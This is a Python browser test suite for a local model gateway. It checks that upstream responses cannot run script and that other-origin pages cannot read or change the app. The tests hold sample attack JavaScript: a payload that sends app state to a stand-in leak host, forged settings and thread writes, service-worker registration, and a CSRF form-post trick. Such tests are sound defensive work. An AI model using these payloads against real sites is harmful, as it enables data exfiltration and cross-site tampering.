"""In a browser: what an upstream writes never runs, and what another site sends never arrives."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Error

from tests.gateway.running import RunningGateway
from tests.web.browser import View, a_view, in_a_browser, the_page
from tests.web.running import Page
from tests.web.sites import Site, a_server

COMPLAINS = ("",)  # the console tells of everything that the policy stops
#: What a script would do that runs with the app's rights.
ATTACK = """
window.broken = 1; document.title = 'broken';
fetch('ELSEWHERE/leak').catch(() => 0);
fetch('/everlong/api/threads', {method: 'POST', headers: {'x-everlong': 'page'}, body: '{}'}).catch(() => 0);
fetch('/everlong/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'}, body: '{"tools": true}'})
  .catch(() => 0);
fetch('/everlong/api/state').then(answer => answer.text())
  .then(text => fetch('ELSEWHERE/leak?' + text.length)).catch(() => 0);
try { navigator.serviceWorker.register('/v1/worker.js', {scope: '/'}).catch(() => 0) } catch {}
"""
HTML = f"<!doctype html><body><script>{ATTACK}</script><img src=ELSEWHERE/picture onerror='window.broken=1'>end"
RIGHTS = {"service-worker-allowed": "/", "access-control-allow-origin": "*", "refresh": "0;url=ELSEWHERE/refreshed"}
CDATA = f"<script><![CDATA[{ATTACK}]]></script>"
#: Headers and body of what an upstream might answer.
ANSWERS: dict[str, tuple[dict[str, str], str]] = {
    "html": ({"content-type": "text/html"}, HTML),
    "a type in capitals": ({"content-type": "TEXT/HTML;charset=utf-8"}, HTML),
    "no type": ({}, HTML),
    "an unknown type": ({"content-type": "unknown/unknown"}, HTML),
    "json that is html": ({"content-type": "application/json"}, HTML),
    "a stream that is html": ({"content-type": "text/event-stream"}, HTML),
    "text that is html": ({"content-type": "text/plain"}, HTML),
    "svg": ({"content-type": "image/svg+xml"}, f"<svg xmlns='http://www.w3.org/2000/svg'>{CDATA}</svg>"),
    "xhtml": (
        {"content-type": "application/xhtml+xml"},
        f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{CDATA}</body></html>",
    ),
    "xml": (
        {"content-type": "text/xml"},
        f"<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script><![CDATA[{ATTACK}]]></h:script></x>",
    ),
    "a policy of its own": ({"content-type": "text/html", "content-security-policy": "script-src *"}, HTML),
}
WORKER = ({"content-type": "text/javascript", **RIGHTS}, "self.addEventListener('fetch', () => 0)")


def filled(answers: dict[str, tuple[dict[str, str], str]], elsewhere: Site) -> dict[str, tuple[dict[str, str], str]]:
    """The same with the address of the site that gathers what leaks."""
    at = f"http://127.0.0.1:{elsewhere.port}"
    return {
        path: ({name: value.replace("ELSEWHERE", at) for name, value in headers.items()}, body.replace("ELSEWHERE", at))
        for path, (headers, body) in answers.items()
    }


@contextmanager
def served(folder: Path, **options: Any) -> Iterator[tuple[RunningGateway, Site, Site]]:
    """A server, its hostile upstream, and another site; nothing of the app is changed in the end."""
    the_page()
    with Site() as upstream, Site() as elsewhere, a_server(upstream, folder, **options) as server:
        page = Page(server.port)
        page.get("/everlong/api/state")  # the app has asked for its models
        before = page.get("/everlong/api/settings"), page.get("/everlong/api/threads")
        yield server, upstream, elsewhere
        assert (page.get("/everlong/api/settings"), page.get("/everlong/api/threads")) == before


@in_a_browser
def test_nothing_that_an_upstream_writes_runs(tmp_path: Path) -> None:
    with served(tmp_path) as (server, upstream, elsewhere):
        paths = {f"/v1/{number}": kind for number, kind in enumerate(ANSWERS)}
        answers = {path: ({**ANSWERS[kind][0], **RIGHTS}, ANSWERS[kind][1]) for path, kind in paths.items()}
        upstream.answers = filled({**answers, "/v1/worker.js": WORKER}, elsewhere)
        with a_view(server, complains=COMPLAINS) as view:
            for path, kind in paths.items():
                if not shown(view, f"{server.address}{path}"):
                    continue
                assert view.page.evaluate("window.broken") is None, kind
                assert view.page.title() != "broken", kind
                assert view.page.url == f"{server.address}{path}", kind
            view.open()
            assert view.page.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0
            view.asked.clear()  # what the policy stopped is listed too; the other site knows what came
        assert {f"GET {path}" for path in paths} <= set(upstream.asked)
        assert elsewhere.asked == []


def shown(view: View, address: str) -> bool:
    """Go there; whether it is shown at all, and not a file to be kept."""
    try:
        view.page.goto(address, wait_until="load")
    except Error as error:
        if "Download is starting" not in str(error):
            raise
        return False
    return True


#: Ways for a script of the page itself, were there one, to run or show what an upstream wrote; each yields "held".
INSIDE = {
    "a script by its path": """new Promise(done => { const one = document.createElement('script');
        one.src = '/v1/evil.js'; one.onload = () => done('ran'); one.onerror = () => done('held');
        document.body.append(one) })""",
    "a module": "import('/v1/evil.js').then(() => 'ran', () => 'held')",
    "a style by its path": """new Promise(done => { const one = document.createElement('link'); one.rel = 'stylesheet';
        one.href = '/v1/evil.css'; one.onload = () => done('ran'); one.onerror = () => done('held');
        document.head.append(one) })""",
    "a picture by its path": """new Promise(done => { const one = new Image();
        one.onload = () => done('ran'); one.onerror = () => done('held'); one.src = '/v1/evil.png' })""",
    "a frame": """new Promise(done => { const one = document.createElement('iframe'); one.src = '/v1/evil.html';
        one.onload = () => { try { done(one.contentDocument.body.textContent ? 'ran' : 'held') }
            catch { done('held') } };
        document.body.append(one) })""",
    "a service worker": """navigator.serviceWorker.register('/v1/worker.js', {scope: '/'})
        .then(() => 'ran', () => 'held')""",
    "a service worker of its folder": """navigator.serviceWorker.register('/v1/worker.js')
        .then(() => 'ran', () => 'held')""",
    "a shared worker": """new Promise(done => { try { const one = new SharedWorker('/v1/shared.worker.js');
        one.onerror = () => done('held'); one.port.onmessage = () => done('ran') } catch { done('held') } })""",
    "a worker": """new Promise(done => { try { const one = new Worker('/v1/evil.js'); one.onerror = () => done('held');
        one.onmessage = () => done('ran') } catch { done('held') } })""",
}


@in_a_browser
def test_the_page_runs_its_own_script_by_its_digest_and_nothing_by_its_path(tmp_path: Path) -> None:
    with served(tmp_path) as (server, upstream, elsewhere):
        script = {"content-type": "text/javascript", **RIGHTS}
        answers = {
            "/v1/evil.js": (script, "self.broken = 1; self.postMessage?.('ran')"),
            "/v1/evil.css": ({"content-type": "text/css"}, "body { display: none }"),
            "/v1/evil.png": ({"content-type": "image/svg+xml"}, "<svg xmlns='http://www.w3.org/2000/svg'/>"),
            "/v1/evil.html": ({"content-type": "text/html"}, HTML),
            "/v1/worker.js": WORKER,
            "/v1/shared.worker.js": (script, "onconnect = event => event.ports[0].postMessage('ran')"),
        }
        upstream.answers = filled(answers, elsewhere)
        with a_view(server, complains=COMPLAINS) as view:
            view.open()
            view.page.locator("main").first.wait_for()
            told = {name: view.page.evaluate(way) for name, way in INSIDE.items()}
            assert told == dict.fromkeys(INSIDE, "held")
            assert view.page.evaluate("window.broken") is None
        assert not [asked for asked in upstream.asked if "evil" in asked or "worker" in asked]
        assert elsewhere.asked == []


# --- another site ------------------------------------------------------------------------------------

CHAT = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hello"}]})
#: What a page of another site tries; each yields "held" where it gets and does nothing.
OUTSIDE = {
    "reads the models": "fetch(AT + '/v1/models').then(() => 'got', () => 'held')",
    "reads explanations": "fetch(AT + '/everlong/requests').then(() => 'got', () => 'held')",
    "reads figures": "fetch(AT + '/metrics').then(() => 'got', () => 'held')",
    "reads threads": "fetch(AT + '/everlong/api/threads').then(() => 'got', () => 'held')",
    "asks a model": "fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT}).then(() => 'got', () => 'held')",
    "asks a model as JSON": """fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT,
        headers: {'content-type': 'application/json'}}).then(() => 'got', () => 'held')""",
    "asks a model blindly": """fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT, mode: 'no-cors'})
        .then(() => 'held', () => 'held')""",
    "asks a model without a referrer": """fetch(AT + '/v1/chat/completions', {method: 'POST', body: CHAT,
        mode: 'no-cors', referrerPolicy: 'no-referrer'}).then(() => 'held', () => 'held')""",
    "sends a beacon": "navigator.sendBeacon(AT + '/v1/chat/completions', CHAT) ? 'held' : 'held'",
    "changes a setting": """fetch(AT + '/everlong/api/settings', {method: 'PUT', headers: {'x-everlong': 'page'},
        body: '{"tools": true}'}).then(() => 'got', () => 'held')""",
    "posts a form": """new Promise(done => { const frame = document.createElement('iframe'); frame.name = 'target';
        const form = document.createElement('form'); form.action = AT + '/v1/chat/completions'; form.method = 'POST';
        form.enctype = 'text/plain'; form.target = 'target'; const field = document.createElement('input');
        field.name = CHAT.slice(0, -1) + ', "x": "'; field.value = '"}'; form.append(field);
        document.body.append(frame, form); frame.onload = () => done('held'); form.submit() })""",
    **{
        f"loads {path} as {tag}": f"""new Promise(done => {{ const one = document.createElement('{tag}');
        {'one.rel = "stylesheet"; one.href' if tag == "link" else "one.src"} = AT + '{path}'; document.head.append(one);
        one.onload = () => done('got'); one.onerror = () => done('held') }})"""
        for tag in ("script", "img", "link")
        for path in ("/everlong/requests", "/v1/evil.js", "/health", "/everlong/api/state", "/")
    },
    "listens to requests": """new Promise(done => { const one = new EventSource(AT + '/everlong/api/live');
        one.onopen = () => done('got'); one.onerror = () => { one.close(); done('held') } })""",
    "opens a socket": """new Promise(done => { const one = new WebSocket(AT.replace('http', 'ws') + '/v1/realtime');
        one.onopen = () => done('got'); one.onerror = () => done('held') })""",
    "registers a worker": "navigator.serviceWorker.register(AT + '/v1/evil.js').then(() => 'got', () => 'held')",
    "opens the page and reaches into it": """(() => { const one = window.open(AT + '/');
        try { return one && one.document && one.document.body.textContent ? 'got' : 'held' }
        catch { return 'held' } })()""",
}
FRAMED = ("/", "/health", "/v1/models", "/v1/evil.html", "/everlong/requests", "/metrics", "/everlong/api/state")


@in_a_browser
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_page_of_another_site_gets_nothing_and_does_nothing(name: str, tmp_path: Path) -> None:
    """Another port of this machine is another site, by either name."""
    frames = "".join(f"<iframe src='AT{path}'></iframe>" for path in FRAMED)
    with served(tmp_path) as (server, upstream, elsewhere):
        upstream.answers = {
            "/v1/evil.js": ({"content-type": "text/javascript", **RIGHTS}, "window.broken = 1"),
            "/v1/evil.html": ({"content-type": "text/html"}, "framed"),
        }
        html = {"content-type": "text/html"}
        elsewhere.answers = {
            "/": (html, "<!doctype html><head></head><body></body>"),
            "/frames": (html, f"<!doctype html>{frames}".replace("AT", server.address)),
        }
        before = list(upstream.asked)
        with a_view(server, complains=COMPLAINS) as view:
            view.origin = f"http://{name}:{elsewhere.port}"
            view.open()
            names = f"const AT = {json.dumps(server.address)}, CHAT = {json.dumps(CHAT)};"
            told = {way: view.page.evaluate(f"() => {{ {names} return {done} }}") for way, done in OUTSIDE.items()}
            assert told == dict.fromkeys(OUTSIDE, "held")
            assert view.page.evaluate("window.broken") is None
            view.open("frames")
            view.page.wait_for_load_state("networkidle")
            framed = [frame.url for frame in view.page.frames[1:]]
            assert framed == ["chrome-error://chromewebdata/"] * len(FRAMED)
            reached(view, server)
        assert upstream.asked == before


def reached(view: View, server: RunningGateway) -> None:
    """The site did ask: it was the server that refused. What is not the server's own is not asked by anyone."""
    assert [url for url in view.asked if url.startswith(server.address)]
    view.asked.clear()


@in_a_browser
def test_a_link_of_another_site_opens_the_page(tmp_path: Path) -> None:
    with served(tmp_path) as (server, _, elsewhere):
        elsewhere.answers = {"/": ({"content-type": "text/html"}, f"<a href='{server.address}/'>the app</a>")}
        with a_view(server, complains=COMPLAINS) as view:
            view.page.goto(f"http://localhost:{elsewhere.port}/")
            view.page.get_by_text("the app").click()
            view.page.locator("main").first.wait_for()
            assert view.page.url.startswith(server.address)
            view.asked.clear()


@in_a_browser
def test_a_site_that_is_allowed_uses_the_gateway_and_not_the_app(tmp_path: Path) -> None:
    the_page()
    with Site() as upstream, Site() as elsewhere:
        elsewhere.answers = {"/": ({"content-type": "text/html"}, "<!doctype html>")}
        origin = f"http://localhost:{elsewhere.port}"
        with a_server(upstream, tmp_path, origins=[origin]) as server, a_view(server, complains=COMPLAINS) as view:
            view.origin = origin
            view.open()
            sent = "{headers: {authorization: 'Bearer k', 'x-stainless-os': 'x'}}"
            read = f"""fetch('{server.address}/v1/models', {sent})
                .then(async answer => [answer.status, answer.headers.has('x-everlong-request'), await answer.json()])"""
            assert view.page.evaluate(read) == [200, True, {"data": [{"id": "m"}]}]
            assert (
                view.page.evaluate(f"fetch('{server.address}/everlong/api/state').then(() => 'got', () => 'held')")
                == "held"
            )
            other = f"http://127.0.0.1:{elsewhere.port}"  # the same server by another name is another site
            view.page.goto(other)
            assert view.page.evaluate(f"fetch('{server.address}/v1/models').then(() => 'got', () => 'held')") == "held"
            view.asked.clear()
